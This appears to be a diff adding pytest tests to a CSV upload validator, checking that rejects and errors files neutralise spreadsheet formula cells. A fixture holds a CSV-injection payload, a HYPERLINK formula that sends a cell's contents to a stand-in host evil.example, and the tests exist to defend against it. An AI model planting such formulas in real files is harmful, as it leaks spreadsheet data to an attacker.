@@ -583,3 +583,47 @@ def test_excel_sep_hint_line(tmp_path, index, element_ids):
     assert raw.delimiter == ";" and list(raw.frame.columns) == HEADER
     _, errors = validate(path, index, element_ids)
     assert [(e.row, e.column) for e in errors] == [(2, "level")]  # as Excel numbers it
+
+
+# --------------------------------------------------------------------------------------------
+# Files for people: no cell of an upload runs as a formula in the rejects and errors files
+# --------------------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"click")'
+
+
+def evil_rows() -> list[list[str]]:
+    good = row(respondent="ams-1")
+    good[8] = "@SUM(A1:A9)"  # a good row's evidence: staged as typed, never a rejects cell
+    bad_level = row(element="SEC-01", level="=1+1", respondent="ams-2")
+    bad_negative = row(element="SEC-02", level="-1", respondent="ams-3")
+    bad_negative[8] = FORMULA
+    return [good, bad_level, bad_negative]
+
+
+def read_cells(path: Path) -> list[dict]:
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_errors_csv_of_a_rejected_file_neutralises_the_cells(tmp_path, ingest):
+    path = write_csv(tmp_path / "+evil.csv", evil_rows())
+    (f,) = ingest(path).files
+    assert f.status == "rejected"
+    cells = read_cells(f.rejects_path)
+    assert [(c["file"], c["row"], c["column"], c["value"]) for c in cells] == [
+        ("'+evil.csv", "3", "level", "'=1+1"), ("'+evil.csv", "4", "level", "'-1")]
+    assert f.errors[0].value == "=1+1"  # the report itself quotes the cell as typed
+
+
+@pytest.mark.parametrize("explicit", [False, True])
+def test_rejected_rows_neutralise_the_original_cells(tmp_path, ingest, paths, explicit):
+    out = tmp_path / "rejects.csv" if explicit else None
+    (f,) = ingest(write_csv(tmp_path / "evil.csv", evil_rows()), skip_invalid=True,
+                  rejected_out=out).files
+    assert f.status == "staged with rejects" and f.rows_staged == 1
+    cells = read_cells(out or f.rejects_path)
+    assert [(c["row"], c["level"], c["evidence"]) for c in cells] == [
+        ("3", "'=1+1", ""), ("4", "'-1", "'" + FORMULA)]
+    staged = pq.read_table(next(paths.staging.glob("*.parquet"))).to_pandas()
+    assert staged["evidence"].tolist() == ["@SUM(A1:A9)"]  # staged data keep what was typed
